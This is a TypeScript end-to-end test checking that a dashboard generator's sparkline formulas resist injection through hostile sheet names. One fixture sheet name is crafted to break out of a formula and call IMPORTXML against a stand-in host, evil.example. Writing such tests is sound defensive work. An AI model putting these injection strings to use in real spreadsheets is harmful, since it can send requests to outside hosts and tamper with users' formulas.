// End-to-end: data sheets with names written to break out of a formula leave the tab's sparklines untouched.

import { createRuntime, workbookFromArrays } from '../../scripts/runtime';
import { CONFIG_PROPERTY_KEY, serializeConfig } from '../../src/model/config';
import { BUNDLE, NOW, savedConfig } from './bundle-fixture';
import { DEALS, TARGETS } from './fixtures';

/** `npm test` builds dist/ first: a missing bundle must fail these tests, never skip them. */
const describeBuilt = describe;

const HOSTILE_SHEETS = ["Deals'!A1:A9),IMPORTXML(\"http://evil.example\",\"//a\")", "=SPARKLINE(Z1:Z2)"];

describeBuilt('sparklines next to hostile sheet names', () => {
  test('every formula of the tab is =SPARKLINE over its own cells and names no sheet', () => {
    const [dealsName, targetsName] = HOSTILE_SHEETS;
    const workbook = workbookFromArrays({ [dealsName]: DEALS, [targetsName]: TARGETS } as never, { locale: 'en_US', timeZone: 'Europe/Paris' });
    const runtime = createRuntime({ workbook, now: NOW, userLocale: 'en' }).load(BUNDLE);
    const config = savedConfig('en_US');
    const { deals, targets } = config.entities;
    if (!deals || !targets) throw new Error('fixture without deals or targets');
    const entities = { deals: { ...deals, sheet: dealsName }, targets: { ...targets, sheet: targetsName } };
    runtime.state.properties.document.set(CONFIG_PROPERTY_KEY, serializeConfig({ ...config, entities }));
    runtime.call('generateLastMonthDashboard');
    expect(runtime.ui.alerts).toEqual([]);
    const sheet = workbook.sheets.find((s) => s.name === 'KPI March 2024');
    if (!sheet) throw new Error('no tab');
    const formulas = sheet.formulas.flat().filter((f) => f !== '');
    expect(formulas.length).toBeGreaterThan(0);
    for (const f of formulas) expect(f).toMatch(/^=SPARKLINE\([A-Z]+\d+:[A-Z]+\d+\)$/);
    // The hostile names are shown (data line, quality table) as plain text.
    const texts = sheet.values.flat().map(String);
    expect(texts.some((t) => t.includes(dealsName))).toBe(true);
  });
});
